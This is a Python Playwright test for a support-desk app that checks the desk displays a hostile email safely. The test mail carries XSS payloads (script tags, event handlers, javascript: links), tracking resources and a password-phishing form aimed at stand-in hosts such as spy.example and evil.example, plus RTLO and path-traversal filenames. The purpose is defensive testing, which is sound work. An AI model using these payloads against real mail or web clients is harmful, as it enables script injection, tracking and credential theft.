"""A hostile mail in a real Chromium, as the real desk server gives it: looked at whole, and it runs and loads nothing."""

from __future__ import annotations

from collections.abc import AsyncIterator
from email.message import EmailMessage
from pathlib import Path

import pytest
from playwright.async_api import Page, Request, expect

from tests.contract.channel_cases import MAILBOX
from tests.contract.channel_server import ChannelServer, channels_serving
from tests.contract.desk_server import PASSWORD
from tests.e2e.desk.browser import log_in, open_browser, open_context, watch
from tests.e2e.desk.fake_desk import DIST
from tests.sqlite import migrated

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001a5f645400000"
    "000049454e44ae426082"
)
HTML = """<html><head><style>body{background:url(https://spy.example/style)}</style><base href="https://evil.example/"></head>
<body onload="parent.hit = 1"><h1>Ваше замовлення</h1><script>parent.hit = 1; document.cookie = "x=1"</script>
<img src="https://spy.example/pixel" onerror="parent.hit = 1"><svg onload="parent.hit = 1"></svg>
<iframe src="https://spy.example/frame"></iframe><object data="https://spy.example/object"></object>
<img src="cid:logo@sample" alt="logo">
<form action="https://evil.example/"><input name="password"><button>Log in</button></form>
<a href="javascript:parent.hit = 1">free</a> <a href="https://shop.example/1043">order</a>
<div style="position:fixed;inset:0;background:url(https://spy.example/div)">over all</div></body></html>"""


def hostile() -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"] = '"<b>Олена</b> \u202egpj" <olena@example.org>', "support@sample.example"
    mail["Subject"], mail["Message-ID"] = "<script>hit = 1</script> \u202efdp.exe", "<hostile@example.org>"
    mail.set_content("<script>hit = 1</script> Де моє замовлення?")
    mail.add_alternative(HTML, subtype="html")
    mail.get_payload()[1].add_related(PNG, maintype="image", subtype="png", cid="<logo@sample>")
    mail.add_attachment(PNG, maintype="text", subtype="html", filename="../../photo.html")
    mail.add_attachment(
        b"<script>hit = 1</script>", maintype="image", subtype="png", filename="<img src=x>.png"
    )
    return mail.as_bytes()


@pytest.fixture
async def running(tmp_path: Path) -> AsyncIterator[ChannelServer]:
    assert (DIST / "index.html").is_file(), "build the desk first: npm ci && npm run build in bridge/desk/web"
    (tmp_path / "web").symlink_to(DIST)
    url = migrated(tmp_path / "omniline.sqlite3")
    async with channels_serving(url, tmp_path) as server:
        yield server


async def test_a_hostile_mail_is_looked_at_and_does_nothing(running: ChannelServer) -> None:
    await running.send(MAILBOX, hostile())
    (entry,) = await running.read()
    async with open_browser() as browser:
        page = await (await open_context(browser)).new_page()
        complaints, asked = watch(page), list[str]()
        page.on("request", lambda request: asked.append(_host(request)))
        await log_in(page, running.server.url, "101", PASSWORD)
        await page.goto(f"{running.server.url}/customers/{entry.customer_id}")
        await _look_at_it(page)
        assert set(asked) == {running.server.url.removeprefix("http://")}
        assert await page.evaluate("window.hit") is None
        assert complaints == []


async def _look_at_it(page: Page) -> None:
    await expect(page.get_by_text("<script>hit = 1</script> Де моє замовлення?")).to_be_visible()
    await page.get_by_text("As it was laid out").click()
    frame = page.frame_locator("iframe")
    await expect(frame.get_by_role("heading")).to_have_text("Ваше замовлення")
    assert await frame.locator("script, svg, form, input, iframe, object").count() == 0
    # Of the pictures only the mail's own one, which is not among its files.
    shown = frame.locator("img[src]")
    await expect(shown).to_have_count(1)
    assert await shown.evaluate("image => image.naturalWidth") == 1
    link = frame.get_by_role("link", name="order")
    assert await link.get_attribute("target") == "_blank"
    assert "noopener" in (await link.get_attribute("rel") or "")
    assert await frame.get_by_text("free").get_attribute("href") is None
    # The picture is one by its content and is shown; what calls itself one and is none is only a file.
    await expect(page.locator(".attachment img")).to_have_count(1)
    assert await page.locator(".attachment img").evaluate("image => image.naturalWidth") == 1
    async with page.expect_download() as download:
        await page.get_by_role("link", name="_img src_x_.png").click()
    assert (await download.value).suggested_filename == "_img src_x_.png"


def _host(request: Request) -> str:
    return request.url.split("/")[2] if request.url.startswith("http") else request.url
